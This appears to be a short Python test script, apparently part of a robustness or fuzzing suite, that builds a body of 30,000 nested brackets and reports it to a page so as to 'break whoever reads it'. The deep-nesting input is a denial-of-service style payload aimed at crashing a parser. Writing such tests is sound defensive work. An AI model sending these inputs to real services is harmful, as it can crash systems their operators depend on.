#: tries = "report, by hand, an answer nested deep enough to break whoever reads it"
#: prelude = "page"
#: wins_status = ["ok"]
import posix


def f():
    base, room = find_page()
    body = b"=" + b"[" * 30000 + b"]" * 30000 + b"\n"
    report(base, body)
    posix._exit(0)
